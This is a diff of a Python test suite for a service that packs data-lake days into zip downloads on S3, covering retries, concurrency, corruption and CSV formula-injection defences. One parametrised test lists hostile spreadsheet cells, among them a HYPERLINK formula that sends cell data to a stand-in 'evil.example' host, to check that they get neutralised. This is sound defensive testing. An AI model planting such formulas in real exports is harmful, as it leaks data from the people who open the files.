@@ -12,17 +12,20 @@ import subprocess
 import zipfile
 from collections.abc import Callable, Iterable, Iterator, Sequence
 from dataclasses import replace
-from datetime import date, timedelta
+from datetime import UTC, date, datetime, timedelta
 from functools import cache
 from pathlib import Path
 from typing import Any
 
 import pytest
+from botocore.exceptions import EndpointConnectionError
 from hypothesis import example, given, settings
 from hypothesis import strategies as st
+from isal import isal_zlib
 
 from consumers.bucket import PartOfUpload, Upload
 from exporter.downloads.jobs import (
+    Cells,
     Job,
     Request,
     State,
@@ -30,19 +33,35 @@ from exporter.downloads.jobs import (
     plan_key,
     zip_key,
 )
-from exporter.downloads.stored_jobs import delete_job, read_job, write_job
+from exporter.downloads.limits import Limits
+from exporter.downloads.service import DownloadService
+from exporter.downloads.stored_jobs import read_job
 from exporter.lake import manifest as archive
+from exporter.lake.batch import Batch
+from exporter.lake.cells import is_formula, safe
+from exporter.lake.days import Day
 from exporter.lake.formats import Format, ZipFormat
 from exporter.lake.manifest import Manifest, Part
-from exporter.store import Column, Days
+from exporter.store import Column, Days, Values
 from exporter.zips import handler as zipper
-from exporter.zips.making import MARGIN_S, MAX_PARTS, Budget, Lease, begin, make_zip
-from exporter.zips.packing import UnavailableError, is_large, kept_format
+from exporter.zips.failures import UnavailableError
+from exporter.zips.making import (
+    MARGIN_S,
+    MAX_PARTS,
+    PART_BYTES,
+    PARTS_OF_A_SIZE,
+    Budget,
+    make_zip,
+    part_size,
+    size_of_parts,
+)
+from exporter.zips.packing import is_large, kept_format, most_bytes
 from tests.builders import Context, sqs_event
-from tests.twins import Bucket, client_error
+from tests.twins import Bucket, Links, client_error, leased, write_job
 
 DAY = date(2025, 11, 20)
 ID = "0123456789abcdef0123456789abcdef"
+KEY = f"{archive.folder(DAY)}part-00000-r1.csv.gz"
 COLUMNS = (Column("time", "timestamp"), Column("client", "text"), Column("n", "number"))
 MEBIBYTE = 1 << 20
 NASTY = ['"', '""', ",", "\n", "\r\n", "", " ", "\x00", "é\u2028😀", "=1+1", "x" * 10_000]
@@ -68,6 +87,7 @@ def put_day(
     kind: str = ".csv.gz",
     revision: int = 1,
     rows: int | None = None,
+    formulas: int | None = 0,
 ) -> None:
     parts = []
     folder = archive.folder(day, kind[1:])
@@ -76,7 +96,8 @@ def put_day(
         key = f"{folder}part-{number:05}-r{revision}{kind}"
         bucket[key] = body
         count = text.count(b"\n") - 1 if rows is None else rows
-        parts.append(Part(key, count, len(body), hashlib.sha256(body).hexdigest(), "", ""))
+        sha256 = hashlib.sha256(body).hexdigest()
+        parts.append(Part(key, count, len(body), sha256, "", "", formulas=formulas))
     columns: tuple[Column, ...] = COLUMNS
     if kind.startswith(".csv") and texts:
         types = dict(COLUMNS)
@@ -108,8 +129,7 @@ def budget(left_s: float = 900, part_bytes: int = 64 * 1024) -> Budget:
 
 
 def zip_of(bucket: Bucket, asked: Job, given: Budget | None = None) -> bytes:
-    write_job(bucket, asked)
-    made = make_zip(Lease(asked, bucket), given or budget())
+    made = make_zip(leased(bucket, asked), given or budget())
     assert made.state.has_zip
     return bucket[zip_key(asked.id)]
 
@@ -192,9 +212,8 @@ def test_a_range_without_rows_gives_a_valid_zip_that_holds_only_a_manifest(days:
     bucket = Bucket()
     for day in range(days):
         put_day(bucket, DAY + timedelta(days=day))
-    write_job(bucket, job())
 
-    made = make_zip(Lease(job(), bucket), budget())
+    made = make_zip(leased(bucket, job()), budget())
 
     files, manifest = read(bucket[zip_key(ID)])
     assert (files, manifest["rows"], made.state, made.rows) == ({}, 0, State.EMPTY, 0)
@@ -255,7 +274,7 @@ def test_what_is_kept_in_the_wanted_format_goes_in_as_it_is(kind: str, format_: 
         (".parquet", {}, "2025-11-20 is kept as parquet: it cannot be had as csv"),
         (".parquet", {"format": ZipFormat.PARQUET, "client": "a"}, "2025-11-20 is kept as parquet: it can"),
         (".csv.gz", {"format": ZipFormat.PARQUET}, "2025-11-20 is kept as csv: it cannot be had as parquet"),
-        (".jsonl.gz", {}, "2025-11-20 is kept as jsonl: it cannot be had as csv"),
+        (".parquet", {"format": ZipFormat.ANY, "client": "a"}, "2025-11-20 is kept as parquet: it can be"),
         (".csv.gz", {"columns": ("time", "nine")}, "no day has a column 'nine'; the columns are client"),
     ],
 )  # fmt: skip
@@ -312,7 +331,7 @@ def test_every_nasty_value_arrives_and_the_zip_tests_clean(program: list[str], t
     bucket = Bucket()
     put_day(bucket, DAY, text.getvalue().replace("\r\n", "\n").encode(), rows=len(NASTY))
     path = tmp_path / "nasty.zip"
-    path.write_bytes(zip_of(bucket, job(1)))
+    path.write_bytes(zip_of(bucket, job(1, cells=Cells.EXACT)))
 
     done = subprocess.run([*program, path], capture_output=True, check=False)
 
@@ -382,10 +401,20 @@ class Worker:
     def __init__(self, bucket: Bucket, given: Budget | None = None) -> None:
         self.bucket = bucket
         self.sent: list[str] = []
+        self.delays: list[int] = []
         self.reported: list[Job] = []
+        self.errors: list[Exception | None] = []
         self.handler = zipper.make_handler(
-            bucket, send=self.sent.append, report=self.reported.append, budget=lambda _left: given or budget()
+            bucket, send=self._send, report=self._report, budget=lambda _left: given or budget()
         )
+
+    def _send(self, message: str, delay_s: int) -> None:
+        self.sent.append(message)
+        self.delays.append(delay_s)
+
+    def _report(self, job: Job, error: Exception | None) -> None:
+        self.reported.append(job)
+        self.errors.append(error)
 
     def work(self, *jobs: Job) -> list[dict[str, str]]:
         for each in jobs:
@@ -430,9 +459,10 @@ def test_a_worker_that_is_killed_anywhere_and_runs_again_makes_the_same_zip(
         bucket = lake(count=1_500)
         write_job(bucket, asked)
         found = None
-        for _ in range(100):
+        for at in range(100):
             mortal = Mortal(bucket, chance.randrange(1, 20), after=after)
             given = Hurried(10_000, part_bytes=10_000, publish_every=1 if wanted else 20)
+            given.now = lambda at=at: 300 * at  # type: ignore[misc]  # a killed worker's job is stuck then
             try:
                 Worker(mortal, given).receive(asked.to_json())
             except KilledError:
@@ -517,7 +547,8 @@ def test_files_that_are_gone_meanwhile_make_it_fail_with_what_to_do() -> None:
 
     worker.receive(job().to_json())
 
-    assert worker.reported[-1].reason == "some of these days were exported anew meanwhile: ask again"
+    assert str(worker.reported[-1].reason).startswith(archive.folder(DAY + timedelta(days=2)))
+    assert str(worker.reported[-1].reason).endswith("is gone, as after a new export of its day: ask again")
     assert bucket.uploads == {}
 
 
@@ -590,33 +621,43 @@ class Crowd:
     def __init__(self, crossings: dict[int, str]) -> None:
         does = {name: getattr(self, name) for name in CROSSINGS}
         self.bucket = Crossed(lake(1, 2, 120), {call: does[name] for call, name in crossings.items()})
-        self.seconds = 0
+        self.now = datetime(2025, 11, 22, tzinfo=UTC)
         self.messages: list[str] = []
-        self.wanted = False
+        self.service = DownloadService(
+            self.bucket, Links(self._now), self.messages.append, 600, self._now, Limits(1 << 40, 100)
+        )
+        # The last download that somebody asked for, and those that are deleted.
+        self.asked = ""
+        self.deleted: set[str] = set()
 
     def works(self, looks: int = 10_000) -> None:
+        message = self.messages.pop() if self.messages else json.dumps({"id": self.asked})
         given = Hurried(looks, part_bytes=1_000, publish_every=3)
-        given.now = self._now
+        given.now = lambda: self._now().timestamp()
         worker = Worker(self.bucket, given)
-        if worker.receive(job(1).to_json()):
-            self.messages.append("again")
+        if worker.receive(message):
+            self.messages.append(message)
         self.messages += worker.sent
 
     def leaves(self) -> None:
         self.works(looks=8)
 
     def is_asked(self) -> None:
-        found = read_job(self.bucket, ID)
-        if found is None or not found.state.has_zip:
-            again = Job(ID, job(1).request) if found is None or found.state is State.FAILED else found
-            write_job(self.bucket, again.becoming(again.state, changed_at=int(self._now())))
-            self.messages.append("asked")
-        self.wanted = True
+        self.asked = self.service.request(job(1).request).id
+        self.deleted.discard(self.asked)
+
+    def is_looked_at(self) -> None:
+        self.service.look(self.asked, None)
+
+    def stands_still(self) -> None:
+        self.now += timedelta(minutes=5)
 
     def is_deleted(self) -> None:
-        delete_job(ID, self.bucket)
+        if (found := self.service.find(self.asked, None)) is not None:
+            self.service.delete(found.job)
         # Unless it was asked for again just after it was deleted.
-        self.wanted = job_key(ID) in self.bucket
+        if job_key(self.asked) not in self.bucket:
+            self.deleted.add(self.asked)
 
     def is_exported(self) -> None:
         put_day(self.bucket, DAY, lines(7, 50), lines(8, 90), revision=2)
@@ -627,16 +668,27 @@ class Crowd:
     def is_given_up(self) -> None:
         self.bucket.uploads.clear()
 
-    def _now(self) -> float:
-        self.seconds += 1
-        return self.seconds
+    def _now(self) -> datetime:
+        self.now += timedelta(seconds=1)
+        return self.now
 
 
-CROSSINGS = ["works", "leaves", "is_asked", "is_deleted", "is_exported", "is_given_up"]
+CROSSINGS = [
+    "works",
+    "leaves",
+    "is_asked",
+    "is_looked_at",
+    "stands_still",
+    "is_deleted",
+    "is_exported",
+    "is_given_up",
+]
 
 
 @given(st.dictionaries(st.integers(1, 60), st.sampled_from(CROSSINGS), max_size=5))
 @example({9: "works"})
+@example({9: "stands_still", 10: "works"})
+@example({9: "stands_still", 10: "is_looked_at", 11: "works", 14: "is_deleted"})
 @example({9: "is_deleted", 12: "is_asked", 13: "works"})
 @settings(deadline=None, max_examples=100)
 def test_whoever_comes_in_between_there_is_one_whole_zip_in_the_end_or_none(
@@ -646,28 +698,34 @@ def test_whoever_comes_in_between_there_is_one_whole_zip_in_the_end_or_none(
     bucket = crowd.bucket
     crowd.is_asked()
 
-    for _ in range(20):
+    for _ in range(30):
         if not crowd.messages:
             break
-        crowd.messages.pop()
         crowd.works()
+        # What a worker left without a message is sent again to the one who waits for it.
+        crowd.stands_still()
+        crowd.is_looked_at()
     bucket.crossings.clear()
 
     assert crowd.messages == []
-    found = read_job(bucket, ID)
-    if found is None:
-        assert not crowd.wanted
-        assert sorted(bucket.keys("tmp/")) == []
-    else:
-        assert found.state is State.READY
-        assert sorted(bucket.keys("tmp/")) == [job_key(ID), zip_key(ID)]
-        assert read(bucket[zip_key(ID)])[1]["rows"] == found.rows
+    found = read_job(bucket, crowd.asked)
+    assert (found is None) == (crowd.asked in crowd.deleted)
+    # A caller who was too late may leave a marker, which is removed before it counts.
+    kept = [key for key in bucket.keys("tmp/") if "/active/" not in key]
+    for identity in {key[len("tmp/") :].partition(".")[0] for key in kept}:
+        done = read_job(bucket, identity)
+        assert done is not None
+        assert done.state is State.READY
+        assert read(bucket[zip_key(identity)])[1]["rows"] == done.rows
+        assert sorted(bucket.keys(f"tmp/{identity}")) == [job_key(identity), zip_key(identity)]
     # Workers that fail at the same moment may leave an upload that is nobody's, until it is a day old.
     assert bucket.uploads == {} or {"is_given_up", "leaves"} & set(crossings.values())
 
 
 def overtaking(bucket: Bucket, *, publishes: bool) -> Budget:
-    """Return a budget in which another worker does all of it while this one has begun."""
+    """Return a budget in which another worker does all of it while this one stands still."""
+    later = budget()
+    later.now = lambda: 300
 
     class Overtaken(Budget):
         overtaken = False
@@ -675,10 +733,10 @@ def overtaking(bucket: Bucket, *, publishes: bool) -> Budget:
         def is_time_to_publish(self) -> bool:
             if not self.overtaken and bucket.calls > 2:
                 self.overtaken = True
-                Worker(bucket).receive(job().to_json())
+                Worker(bucket, later).receive(job().to_json())
             return publishes
 
-    return Overtaken(lambda: 900, part_bytes=64 * 1024)
+    return Overtaken(lambda: 900, now=lambda: 0, part_bytes=64 * 1024)
 
 
 @pytest.mark.parametrize("publishes", [False, True])
@@ -694,6 +752,28 @@ def test_two_workers_at_once_with_one_message_make_one_zip(publishes: bool) -> N
     found = read_job(bucket, ID)
     assert found is not None
     assert found.state is State.READY
+
+
+def test_a_worker_gives_way_to_one_that_changed_the_job_a_moment_ago() -> None:
+    bucket = lake()
+    given = Hurried(10_000)
+    given.now = lambda: 299
+    failures: list[dict[str, str]] = []
+
+    class Twice(Budget):
+        def is_time_to_publish(self) -> bool:
+            if not failures:
+                failures.extend(Worker(bucket, given).receive(job().to_json()))
+            return True
+
+    worker = Worker(bucket, Twice(lambda: 900, now=lambda: 0, part_bytes=64 * 1024))
+
+    assert worker.work(job()) == []
+
+    # The second delivery comes again after its visibility timeout, and finds the zip.
+    assert len(failures) == 1
+    assert [each.state for each in worker.reported] == [State.READY]
+    assert Worker(bucket).receive(job().to_json()) == []
 
 
 def test_a_worker_that_fails_late_takes_nothing_from_the_one_that_was_quicker() -> None:
@@ -729,6 +809,135 @@ def test_what_is_written_although_the_answer_was_lost_is_written() -> None:
 
     assert worker.reported[-1].state is State.READY
     assert (bucket[zip_key(ID)], bucket.uploads) == (zip_of(lake(), job()), {})
+
+
+class Throttled(Bucket):
+    """A bucket that refuses as many uploads of parts as told, from the sixth on."""
+
+    def __init__(self, content: Bucket, refusals: int, error: Exception) -> None:
+        super().__init__(content)
+        self.refusals, self.error = refusals, error
+
+    def add(self, upload: Upload, number: int, body: bytes | bytearray) -> PartOfUpload:
+        if self.calls >= 5 and self.refusals:
+            self.refusals -= 1
+            raise self.error
+        return super().add(upload, number, body)
+
+
+PASSING = [
+    client_error("SlowDown", 503),
+    client_error("InternalError", 500),
+    client_error("RequestTimeout", 400),
+    EndpointConnectionError(endpoint_url="https://s3"),
+    ConnectionResetError("reset"),
+]
+
+
+@pytest.mark.parametrize("error", PASSING, ids=str)
+def test_an_error_of_s3_that_passes_is_resumed_behind_the_last_part(error: Exception) -> None:
+    expected = zip_of(lake(), job())
+    bucket = Throttled(lake(), 1, error)
+    worker = Worker(bucket)
+
+    assert worker.work(job()) == []
+
+    assert (worker.reported[-1].state, worker.reported[-1].retries, worker.delays) == (State.RUNNING, 1, [60])
+    assert [len(parts) for parts in bucket.uploads.values()] == [5]
+    parts = bucket.calls
+    assert worker.receive(*worker.sent) == []
+    assert worker.reported[-1].state is State.READY
+    assert (bucket[zip_key(ID)], bucket.uploads) == (expected, {})
+    assert bucket.calls == -(-len(expected) // (64 * 1024)), f"{parts} parts were not uploaded again"
+
+
+def test_an_error_of_s3_that_does_not_pass_fails_the_zip() -> None:
+    bucket = Throttled(lake(), 100, client_error("SlowDown", 503))
+    worker = Worker(bucket)
+    worker.work(job())
+
+    turns = 1
+    while worker.reported[-1].state is State.RUNNING:
+        turns += 1
+        worker.receive(worker.sent[-1])
+
+    assert turns == zipper.MAX_RETRIES + 1
+    failed = worker.reported[-1]
+    assert (failed.state, failed.reason) == (
+        State.FAILED,
+        "the storage did not answer several times in a row: ask again",
+    )
+    assert failed.incident is not None
+    assert (bucket.uploads, plan_key(ID) in bucket) == ({}, False)
+
+
+FLIPPED: list[tuple[Format, dict[str, Any]]] = [
+    (Format.CSV_GZ, {}),
+    (Format.CSV_GZ, {"client": "acme"}),
+    (Format.CSV, {"columns": ("n",)}),
+    (Format.JSONL_GZ, {"format": ZipFormat.JSONL}),
+    (Format.JSONL_GZ, {"format": ZipFormat.JSONL, "client": "acme"}),
+    (Format.CSV_GZ, {"format": ZipFormat.JSONL}),
+    (Format.PARQUET, {"format": ZipFormat.PARQUET}),
+]
+
+
+@cache
+def _written(kind: Format) -> Bucket:
+    """Return a lake with a day of two parts, as the exporter writes it."""
+    bucket = Bucket()
+    rows: list[Values] = [
+        [f"2025-11-20 10:00:00.{number:09}", "request", "acme" if number % 3 else "zeta", str(number)]
+        for number in range(60)
+    ]
+    columns = (*COLUMNS[:1], Column("_type", "text"), *COLUMNS[1:])
+    day = Day(bucket, DAY, kind)
+    batches = (Batch(rows[start : start + 10]) for start in range(0, 60, 10))
+    parts = tuple(day.write(batches, columns, 1, size=1_000))
+    assert len(parts) > 1
+    day.commit(Manifest(DAY, 1, columns, parts, kind))
+    return bucket
+
+
+@given(st.sampled_from(FLIPPED), st.data())
+@settings(deadline=None, max_examples=250)
+def test_a_damaged_byte_of_the_lake_fails_the_zip_by_name_or_changes_nothing_in_it(
+    wanted: tuple[Format, dict[str, Any]], data: st.DataObject
+) -> None:
+    kind, request = wanted
+    asked = job(1, **request)
+    whole = read(zip_of(Bucket(_written(kind)), asked))[0]
+    bucket = Bucket(_written(kind))
+    key = data.draw(st.sampled_from([key for key in bucket if "symlink" not in key]))
+    body = bytearray(bucket[key])
+    place = data.draw(st.integers(0, len(body) - 1))
+    body[place] ^= 1 << data.draw(st.integers(0, 7))
+    bucket[key] = bytes(body)
+    worker = Worker(bucket)
+
+    worker.work(asked)
+
+    ended = worker.reported[-1]
+    if ended.state is State.FAILED:
+        assert archive.folder(DAY, kind) in str(ended.reason)
+        assert (zip_key(ID) in bucket, bucket.uploads) == (False, {})
+    else:
+        assert ended.state is State.READY
+        assert list(read(bucket[zip_key(ID)])[0].values()) == list(whole.values())
+
+
+@pytest.mark.parametrize("kind", [Format.CSV_GZ, Format.JSONL_GZ])
+def test_a_damaged_name_of_a_column_in_a_manifest_does_not_empty_the_zip(kind: Format) -> None:
+    bucket = Bucket(_written(kind))
+    key = archive.folder(DAY, kind) + archive.MANIFEST
+    bucket[key] = bucket[key].replace(b'"client"', b'"clienu"')
+    worker = Worker(bucket)
+
+    worker.work(job(1, format=ZipFormat.JSONL, client="acme"))
+
+    assert str(worker.reported[-1].reason) == (
+        f"{archive.folder(DAY, kind)}part-00000.{kind} is damaged: tell the operator"
+    )
 
 
 def test_an_upload_that_somebody_gave_up_is_begun_anew() -> None:
@@ -779,7 +988,9 @@ def test_progress_is_written_at_most_once_a_second_and_only_grows() -> None:
     slow = Slow(bucket)
     Worker(slow, Budget(lambda: 900, lambda: clock, part_bytes=64 * 1024)).work(job())
 
-    running = [(at, each) for at, each in seen if each.state is State.RUNNING]
+    (_, taken), *rest = seen
+    assert (taken.state, taken.total_bytes) == (State.RUNNING, None)
+    running = [(at, each) for at, each in rest if each.state is State.RUNNING]
     assert len(running) > 5
     assert all(later - sooner >= 1 for (sooner, _), (later, _) in itertools.pairwise(running))
     done = [each.done_bytes for _, each in running]
@@ -791,14 +1002,20 @@ def test_progress_is_written_at_most_once_a_second_and_only_grows() -> None:
 @pytest.mark.parametrize(
     ("error", "reason", "again"),
     [
-        (client_error("InvalidObjectState", 403), "some of these days are in the archive", False),
-        (client_error("SlowDown", 503), "ClientError: ", True),
-        (OSError("the disk is gone"), "OSError: the disk is gone", True),
+        (client_error("InvalidObjectState", 403), f"{KEY} is in the archive: restore it", False),
+        (client_error("AccessDenied", 403), f"{KEY} cannot be read: ask again", True),
+        (client_error("PreconditionFailed", 412), f"{KEY} is gone, as after a new export", True),
+        (isal_zlib.error("invalid block"), "an internal error: ask again", True),  # type: ignore[operator]
+        (ZeroDivisionError("a secret"), "an internal error: ask again", True),
+        (OSError("the disk is gone"), "an internal error: ask again", True),
+        (KeyError("n"), f"{KEY} is damaged", True),
     ],
 )
 def test_a_zip_that_cannot_be_made_says_why_and_its_neighbours_are_made(
     error: Exception, reason: str, again: bool
 ) -> None:
+    """Every exception ends a job. Its reason has nothing of another service's; the log has the incident."""
+
     class Broken(Bucket):
         def stream(self, key: str) -> Any:  # noqa: ARG002 - a bucket's signature
             raise error
@@ -812,6 +1029,9 @@ def test_a_zip_that_cannot_be_made_says_why_and_its_neighbours_are_made(
     assert len(failures) == (1 if again else 0)
     assert [each.state for each in worker.reported] == [State.FAILED, State.EMPTY]
     assert str(worker.reported[0].reason).startswith(reason)
+    assert str(error) not in str(worker.reported[0].reason)
+    assert (worker.reported[0].incident is not None) == again
+    assert worker.errors[0] is not None
     assert read_job(bucket, ID) == worker.reported[0]
     assert bucket.uploads == {}
     assert plan_key(ID) not in bucket
@@ -828,7 +1048,7 @@ def test_a_file_that_is_not_what_its_manifest_says_fails_the_zip_before_it_is_th
 
     assert len(worker.work(job(1, **wanted))) == 1
 
-    assert f"{key} differs from its manifest" in str(worker.reported[-1].reason)
+    assert str(worker.reported[-1].reason).startswith(key)
     assert zip_key(ID) not in bucket
     assert bucket.uploads == {}
 
@@ -846,13 +1066,185 @@ def test_a_file_that_ends_early_fails_the_zip(cut: int) -> None:
     assert zip_key(ID) not in bucket
 
 
-def test_what_may_become_larger_than_80_gb_has_larger_parts() -> None:
+def test_parts_grow_with_the_zip_so_that_memory_and_their_number_have_limits() -> None:
+    sizes = [part_size(number, PART_BYTES) for number in range(1, MAX_PARTS + 1)]
+
+    assert list(itertools.accumulate(sizes, initial=0)) == [
+        size_of_parts(count, PART_BYTES) for count in range(MAX_PARTS + 1)
+    ]
+    # https://docs.aws.amazon.com/AmazonS3/latest/userguide/qfacts.html
+    assert (sizes[0], sizes[-1], sum(sizes)) == (8 * MEBIBYTE, 128 * MEBIBYTE, 496_000 * MEBIBYTE)
+    assert sizes == sorted(sizes)
+
+
+def test_a_zip_with_parts_of_several_sizes_is_whole_and_is_resumed_behind_them() -> None:
+    expected = zip_of(lake(count=200), job())
+    bucket = lake(count=200)
+    write_job(bucket, job())
+    messages = [job().to_json()]
+    while messages:
+        worker = Worker(bucket, Hurried(1_500, part_bytes=10))
+        worker.receive(messages.pop())
+        messages += worker.sent
+
+    assert len(expected) > size_of_parts(PARTS_OF_A_SIZE + 10, 10)
+    assert (bucket[zip_key(ID)], bucket.uploads) == (expected, {})
+
+
+def test_a_zip_that_needs_more_parts_than_s3_takes_fails_with_the_limit() -> None:
+    bucket = lake()
+    worker = Worker(bucket, budget(part_bytes=1))
+
+    assert worker.work(job()) == []
+
+    most = size_of_parts(MAX_PARTS, 1)
+    assert worker.reported[-1].reason == f"the zip has more than {most} bytes: ask for fewer days"
+    assert bucket.uploads == {}
+
+
+def a_part(columns: int, rows: int, text_bytes: int | None) -> tuple[Manifest, Part]:
+    part = Part(KEY, rows, 30 << 20, "", "", "", text_bytes, formulas=0)
+    names = tuple(Column(f"column_number_{number}", "text") for number in range(columns))
+    return Manifest(DAY, 1, names, (part,)), part
+
+
+@pytest.mark.parametrize(
+    ("columns", "rows", "text_bytes", "wanted", "large"),
+    [
+        (20, 800_000, 256 << 20, {}, False),
+        (20, 800_000, None, {}, False),
+        (20, 800_000, 256 << 20, {"format": ZipFormat.JSONL}, False),
+        # Each row may name all columns: a wide part of 256 MiB may become one of more than 4 GiB.
+        (1_000, 260_000, 256 << 20, {"format": ZipFormat.JSONL}, True),
+        (1_000, 260_000, 256 << 20, {"format": ZipFormat.JSONL, "columns": ("column_number_1",)}, False),
+        (1_000, 260_000, 4 << 30, {}, True),
+    ],
+)
+def test_whether_a_file_takes_64_bits_follows_from_the_manifest(
+    columns: int, rows: int, text_bytes: int | None, wanted: dict[str, Any], large: bool
+) -> None:
+    manifest, part = a_part(columns, rows, text_bytes)
+
+    assert is_large(job(1, **wanted).request, manifest, part) is large
+
+
+TEXTS = st.text(st.sampled_from('=-+@"\\\x00\n\r\t,é😀a1'), max_size=6) | st.none()
+
+
+@given(
+    st.sampled_from(["a", "=1+1", "é" * 20, 'q"']).flatmap(
+        lambda name: st.tuples(st.just(name), st.lists(st.tuples(TEXTS, TEXTS), max_size=20))
+    ),
+    st.sampled_from([Format.CSV_GZ, Format.CSV, Format.JSONL_GZ]),
+    st.sampled_from([ZipFormat.CSV, ZipFormat.JSONL, ZipFormat.ANY]),
+    st.sampled_from([(), ("b",)]),
+    st.sampled_from(Cells),
+)
+@settings(deadline=None, max_examples=100)
+def test_cells_are_safe_or_exact_as_asked_and_files_are_no_larger_than_was_foreseen(
+    named: tuple[str, list[tuple[str | None, str | None]]],
+    kind: Format,
+    wanted: ZipFormat,
+    columns: tuple[str, ...],
+    cells: Cells,
+) -> None:
+    name, texts = named
     bucket = Bucket()
-    part = Part(f"{archive.folder(DAY)}part-00000.csv.gz", 1, 1 << 40, "", "", "")
-    bucket[archive.folder(DAY) + archive.MANIFEST] = Manifest(DAY, 1, COLUMNS, (part,)).to_json()
+    known = (Column("time", "timestamp"), Column("_type", "text"), Column(name, "text"), Column("b", "text"))
+    rows: list[Values] = [["2025-11-20 10:00:00.000000000", "t", *pair] for pair in texts]
+    day = Day(bucket, DAY, kind)
+    empties = any("" in pair for pair in texts)
+    parts = tuple(day.write(iter([Batch(rows, empties)] if rows else []), known, 1))
+    manifest = Manifest(DAY, 1, known, parts, kind)
+    day.commit(manifest)
+    asked = job(1, format=wanted, columns=columns, cells=cells)
 
-    plan = begin(job(1), bucket, Budget(lambda: 900))
+    files, in_zip = read(zip_of(bucket, asked))
 
-    assert plan.part_bytes * MAX_PARTS >= 1 << 40
-    assert plan.part_bytes % MEBIBYTE == 0
-    assert is_large(job(1).request, part)
+    assert in_zip["rows"] == len(rows)
+    for part, body in zip(parts, files.values(), strict=True):
+        assert len(body) <= most_bytes(asked.request, manifest, part)
+    if not rows or asked.request.ending(kind) != "csv":
+        return
+    read_back = list(csv.reader(io.StringIO(next(iter(files.values())).decode(), newline="")))
+    names = columns or tuple(column.name for column in known)
+    places = [[column.name for column in known].index(each) for each in names]
+    expected = [list(names), *([row[place] or "" for place in places] for row in rows)]
+    if cells is Cells.SAFE:
+        assert not any(is_formula(cell) for row in read_back for cell in row)
+        expected = [[str(safe(cell)) for cell in row] for row in expected]
+    # The module reads an empty line as a row without values.
+    assert [row or [""] for row in read_back] == expected
+
+
+@pytest.mark.parametrize(
+    ("text", "is_run"),
+    [
+        ('=HYPERLINK("http://evil.example/?"&A1,"click")', True),
+        ("@SUM(1)", True),
+        ("+1+1", True),
+        ("-2+3", True),
+        ("\t=1", True),
+        ("\r=1", True),
+        ("＝1", True),  # noqa: RUF001 - a full-width form
+        ("-", False),
+        ("-5", False),
+        ("+4.5e-3", False),
+        ("-.5", False),
+        ("", False),
+        ("a=1", False),
+        ("'=1", False),
+    ],
+)
+def test_a_cell_is_a_formula_unless_it_is_a_number_or_a_dash(text: str, is_run: bool) -> None:
+    assert is_formula(text) is is_run
+    assert safe(text) == (f"'{text}" if is_run else text)
+
+
+@pytest.mark.parametrize(
+    ("formulas", "cells", "copied"),
+    [
+        (0, Cells.SAFE, True),
+        (1, Cells.SAFE, False),
+        (None, Cells.SAFE, False),
+        (1, Cells.EXACT, True),
+        (None, Cells.EXACT, True),
+    ],
+)
+def test_a_part_is_copied_unless_it_has_cells_to_make_safe_or_did_not_count_them(
+    formulas: int | None, cells: Cells, copied: bool
+) -> None:
+    bucket = Bucket()
+    put_day(bucket, DAY, lines(0, 500), formulas=formulas)
+    packed = bucket[KEY][10:-8]
+
+    body = zip_of(bucket, job(1, cells=cells))
+
+    assert (packed in body) is copied
+    assert next(iter(read(body)[0].values())) == lines(0, 500)
+
+
+def test_a_range_of_days_in_several_formats_is_given_as_it_is_kept() -> None:
+    bucket = Bucket()
+    put_day(bucket, DAY, lines(0, 5))
+    put_day(bucket, DAY + timedelta(days=1), b'{"client":"acme"}\n', kind=".jsonl.gz", rows=1)
+    put_day(bucket, DAY + timedelta(days=2), b"PAR1", kind=".parquet", rows=2)
+
+    files, manifest = read(zip_of(bucket, job(3, format=ZipFormat.ANY)))
+
+    assert files == {
+        "2025-11-20-part-00000.csv": lines(0, 5),
+        "2025-11-21-part-00000.jsonl": b'{"client":"acme"}\n',
+        "2025-11-22-part-00000.parquet": b"PAR1",
+    }
+    assert (manifest["format"], manifest["rows"], manifest["days_not_exported"]) == ("any", 8, [])
+
+
+def test_csv_is_made_of_json_lines_where_a_day_has_only_those() -> None:
+    bucket = Bucket()
+    put_day(bucket, DAY, lines(0, 5))
+    put_day(bucket, DAY + timedelta(days=1), b'{"client":"=1","n":-5}\n', kind=".jsonl.gz", rows=1)
+
+    files, _ = read(zip_of(bucket, job(2)))
+
+    assert list(files.values()) == [lines(0, 5), b"time,client,n\n,'=1,-5\n"]
